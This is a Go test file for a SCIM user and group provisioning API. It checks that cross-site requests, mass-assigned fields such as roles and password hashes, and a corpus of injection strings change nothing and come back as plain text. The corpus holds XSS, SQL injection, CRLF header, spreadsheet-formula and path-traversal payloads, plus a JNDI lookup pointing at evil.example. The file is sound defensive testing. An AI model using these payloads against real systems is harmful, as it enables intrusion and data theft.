package scim_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/latchkey-id/latchkey/admin/scim"
	"github.com/latchkey-id/latchkey/login/logintest"
	"github.com/latchkey-id/latchkey/storage"
)

// corpus are texts that would run, or reach further, if something took them for more than
// text.
var corpus = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{constructor.constructor('alert(1)')()}}`, `' OR 1=1 --`,
	"a\u202Eb", "a\x00b", "a\r\nSet-Cookie: x=1", `=HYPERLINK("https://evil.example")`, `../../Users`, `%00`, `${jndi:ldap://evil.example}`, strings.Repeat("A", 5000),
}

// bodies are what a request of each kind is, where it has a body.
var bodies = map[string]string{
	"POST /Users": `{"userName":"{new}@example.com"}`, "PUT /Users/{id}": `{"userName":"ada@example.com","displayName":"Ada"}`,
	"PATCH /Users/{id}": `{"Operations":[{"op":"replace","path":"displayName","value":"Ada"}]}`,
	"POST /Groups":      `{"displayName":"{new}"}`, "PUT /Groups/{id}": `{"displayName":"staff"}`, "PATCH /Groups/{id}": `{"Operations":[{"op":"replace","path":"externalId","value":"x"}]}`,
	"POST /Users/.search": `{"filter":"userName pr"}`, "POST /Groups/.search": `{"filter":"displayName pr"}`, "POST /.search": `{"filter":"id pr"}`,
	"POST /Bulk": `{"Operations":[{"method":"POST","path":"/Users","bulkId":"a","data":{"userName":"{new}@example.com"}}]}`,
}

// world is a site with somebody and a group of a source, and the routes that there are.
type world struct {
	*site
	person, group string
	made          int
}

func newWorld(t *testing.T) *world {
	t.Helper()
	s := newSite(t)
	return &world{site: s, person: s.user(entra, "ada@example.com").id(), group: s.want(s.call(entra, http.MethodPost, "/Groups", `{"displayName":"staff"}`), http.StatusCreated).id()}
}

// each goes over every route, with its path about somebody, and its body; "": it has none.
func (w *world) each(do func(r scim.Route, path, body string)) {
	w.T.Helper()
	routes := scim.Routes(w.server)
	for _, r := range routes {
		id := w.person
		if strings.HasPrefix(r.Path, "/Groups") {
			id = w.group
		}
		body := bodies[r.Method+" "+r.Path]
		if has := r.Method != http.MethodGet && r.Method != http.MethodDelete; has != (body != "") {
			w.T.Fatalf("%s %s: a body %q", r.Method, r.Path, body)
		}
		w.made++
		do(r, strings.ReplaceAll(r.Path, "{id}", id), strings.ReplaceAll(body, "{new}", fmt.Sprintf("new%d", w.made)))
	}
	if len(routes) < 20 {
		w.T.Errorf("%d routes", len(routes))
	}
}

// state is all that is kept of people and groups, as text.
func (w *world) state() string {
	w.T.Helper()
	ctx := w.T.Context()
	people, err := w.Store.Users().List(ctx, "", 1000)
	logintest.Check(w.T, err)
	groups, err := w.Store.Groups().List(ctx, "", 1000)
	logintest.Check(w.T, err)
	known, err := w.Store.Provisions().Page(ctx, storage.SourcePage{Source: "scim:entra", Limit: 1000})
	logintest.Check(w.T, err)
	text, err := json.Marshal([]any{people, groups, known})
	logintest.Check(w.T, err)
	return string(text)
}

// TestCS1_NoPageOfAnotherSiteReachesSCIM: what a browser sends by itself from another
// site (cookies, forms, texts) changes nothing on any route (CSRF), and no route lets
// another site's script send more (CORS).
func TestCS1_NoPageOfAnotherSiteReachesSCIM(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	before := w.state()
	evil := []string{"Origin", "https://evil.example", "Cookie", "latchkey_session=" + entra + "; Authorization=Bearer " + entra}
	w.each(func(r scim.Route, path, body string) {
		for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/scim+json"} {
			with := append([]string{"Content-Type", kind}, evil...)
			a := w.want(w.call("", r.Method, path+"?access_token="+entra, body, with...), http.StatusUnauthorized)
			if a.Header.Get("Access-Control-Allow-Origin") != "" || a.Header.Get("Set-Cookie") != "" {
				t.Errorf("%s %s answers another site: %v", r.Method, path, a.Header)
			}
			if body != "" && kind != "application/scim+json" {
				w.want(w.call(entra, r.Method, path, body, "Content-Type", kind), http.StatusUnsupportedMediaType)
			}
		}
		asked := w.call("", http.MethodOptions, path, "", "Origin", "https://evil.example", "Access-Control-Request-Method", r.Method, "Access-Control-Request-Headers", "authorization")
		if asked.Status < 400 || asked.Header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("OPTIONS %s: %d %v", path, asked.Status, asked.Header)
		}
	})
	if w.state() != before {
		t.Error("something changed")
	}
}

// TestRE4_NoRouteSetsWhatIsNotItsOwn: members that no schema has, that are read alone, or
// that are another's change nothing on any route that writes (mass assignment).
func TestRE4_NoRouteSetsWhatIsNotItsOwn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	extra := map[string]any{
		"id": strings.Repeat("0", 32), "roles": []any{map[string]any{"value": "latchkey-owner"}}, "Roles": []any{"latchkey-owner"}, "groups": []any{map[string]any{"value": w.group}}, "created": "2001-01-01",
		"created_at": "2001-01-01T00:00:00Z", "meta": map[string]any{"created": "2001-01-01T00:00:00Z", "version": "W/\"9\"", "resourceType": "Group"}, "source": "scim:okta", "password": "correct horse battery", "password_hash": "$argon2id$",
		"email_verified": true, "emailVerified": true, "disabled_at": nil, "locked_at": nil, "entitlements": []any{"root"}, "attributes": map[string]any{"office": "x"}, "description": "x", "display_name": "x",
		"__proto__": map[string]any{"active": false}, "constructor": map[string]any{}, "user_id": "1", "urn:ietf:params:scim:schemas:core:2.0:Group": map[string]any{"roles": "x"}, custom: map[string]any{"roles": "x", "entitlements": []any{"root"}},
	}
	forged := func(in map[string]any) {
		for name, value := range extra {
			in[name] = value
		}
	}
	w.each(func(r scim.Route, path, body string) {
		if body == "" || strings.HasSuffix(path, "/.search") {
			return
		}
		var in map[string]any
		logintest.Check(t, json.Unmarshal([]byte(body), &in))
		forged(in)
		for _, o := range operationsOf(in) {
			for _, part := range []string{"data", "value"} {
				if data, ok := o[part].(map[string]any); ok {
					forged(data)
				} else if r.Method == http.MethodPatch && part == "value" {
					delete(o, "path")
					o["value"] = extra
				}
			}
		}
		text, err := json.Marshal(in)
		logintest.Check(t, err)
		if a := w.call(entra, r.Method, path, string(text)); a.Status >= 300 {
			t.Errorf("%s %s: %d %s", r.Method, path, a.Status, a.Text)
		}
		for name, value := range extra { // and each by its path
			if r.Method == http.MethodPatch {
				one, err := json.Marshal(map[string]any{"op": "replace", "path": name, "value": value})
				logintest.Check(t, err)
				if a := w.call(entra, r.Method, path, patched(string(one))); a.Status != http.StatusBadRequest && name != custom {
					t.Errorf("%s %s: %d %s", path, name, a.Status, a.Text)
				}
			}
		}
	})
	people, err := w.Store.Users().List(t.Context(), "", 1000)
	logintest.Check(t, err)
	for i := range people {
		u := &people[i]
		if len(u.Roles)+len(u.Groups)+len(u.Attributes) > 0 || u.PasswordHash != "" || u.EmailVerified || u.Disabled() || !u.CreatedAt.Equal(w.Clock.Now()) || u.ID == storage.ID(strings.Repeat("0", 32)) {
			t.Errorf("set: %+v", u)
		}
	}
	groups, err := w.Store.Groups().List(t.Context(), "", 1000)
	logintest.Check(t, err)
	for _, g := range groups {
		if len(g.Roles) > 0 || g.Description != "" || g.DisplayName != "" || g.Source != "scim:entra" {
			t.Errorf("set: %+v", g)
		}
	}
	if len(people) != 3 || len(groups) != 2 { // those of the world, and of POST and of a bulk
		t.Errorf("%d people, %d groups", len(people), len(groups))
	}
}

// operationsOf are those of a PATCH or a bulk.
func operationsOf(in map[string]any) []map[string]any {
	list, _ := in["Operations"].([]any)
	var all []map[string]any
	for _, one := range list {
		all = append(all, one.(map[string]any))
	}
	return all
}

// TestRE4_WhatSourcesSayIsText: no value of any attribute of any schema, no filter and no
// address is taken for more than text on any route (cross-site scripting, injection), and
// what is answered is no page.
func TestRE4_WhatSourcesSayIsText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	plain := func(what string, a *answer) {
		t.Helper()
		if a.Status >= 500 || a.Header.Get("Content-Type") != "application/scim+json" && a.Status != http.StatusNoContent || strings.Contains(a.Text, "<script") || strings.Contains(a.Text, "<img") || a.Header.Get("X-Content-Type-Options") != "nosniff" || a.Header.Get("Set-Cookie") != "" {
			t.Errorf("%s: %d %v %.300s", what, a.Status, a.Header, a.Text)
		}
	}
	names := w.attributes("urn:ietf:params:scim:schemas:core:2.0:User", "")
	names = append(names, w.attributes(enterprise, enterprise+":")...)
	names = append(names, w.attributes(custom, custom+":")...)
	if len(names) < 40 {
		t.Fatalf("attributes %v", names)
	}
	for i, bad := range corpus {
		w.each(func(r scim.Route, path, body string) {
			query := url.Values{}
			for _, name := range []string{"filter", "attributes", "excludedAttributes", "startIndex", "count", "sortBy"} {
				query.Set(name, bad)
			}
			plain(r.Method+" "+r.Path+" by query", w.call(entra, http.MethodGet, path+"?"+query.Encode(), ""))
			plain(r.Path+" by address", w.call(entra, http.MethodGet, path+"/"+url.PathEscape(bad), ""))
			if body != "" {
				text, err := json.Marshal(bad)
				logintest.Check(t, err)
				for _, value := range []string{`"Ada"`, `"staff"`, `"x"`, `"userName pr"`, `"displayName pr"`, `"id pr"`, `"a"`, `"/Users"`} {
					plain(r.Method+" "+r.Path+" "+value, w.call(entra, r.Method, path, strings.ReplaceAll(body, value, string(text))))
				}
			}
		})
		if i < 2 { // markup, in every attribute
			for _, name := range names {
				text, err := json.Marshal(map[string]any{"op": "replace", "path": name, "value": bad})
				logintest.Check(t, err)
				plain(name, w.call(entra, http.MethodPatch, "/Users/"+w.person, patched(string(text)), "User-Agent", bad))
			}
			plain("read", w.call(entra, http.MethodGet, "/Users/"+w.person, ""))
		}
	}
}

// attributes are the names of a schema's attributes that are written, as paths.
func (w *world) attributes(urn, before string) []string {
	w.T.Helper()
	var names []string
	for _, a := range w.want(w.call(entra, http.MethodGet, "/Schemas/"+urn, ""), http.StatusOK).JSON["attributes"].([]any) {
		one := a.(map[string]any)
		if one["mutability"] == "readOnly" {
			continue
		}
		parts, _ := one["subAttributes"].([]any)
		for _, part := range parts {
			names = append(names, before+one["name"].(string)+"."+part.(map[string]any)["name"].(string))
		}
		if len(parts) == 0 {
			names = append(names, before+one["name"].(string))
		}
	}
	return names
}
